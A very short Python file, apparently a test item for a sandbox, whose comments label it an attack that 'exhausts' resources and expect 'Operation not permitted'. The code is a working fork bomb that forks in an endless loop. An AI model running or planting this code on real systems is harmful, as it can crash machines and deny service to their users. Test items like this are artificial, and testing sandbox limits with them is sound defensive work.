#| attack: forks without end
#| row: exhausts
#| points: 0
#| says: Operation not permitted
import os
while True:
    os.fork()
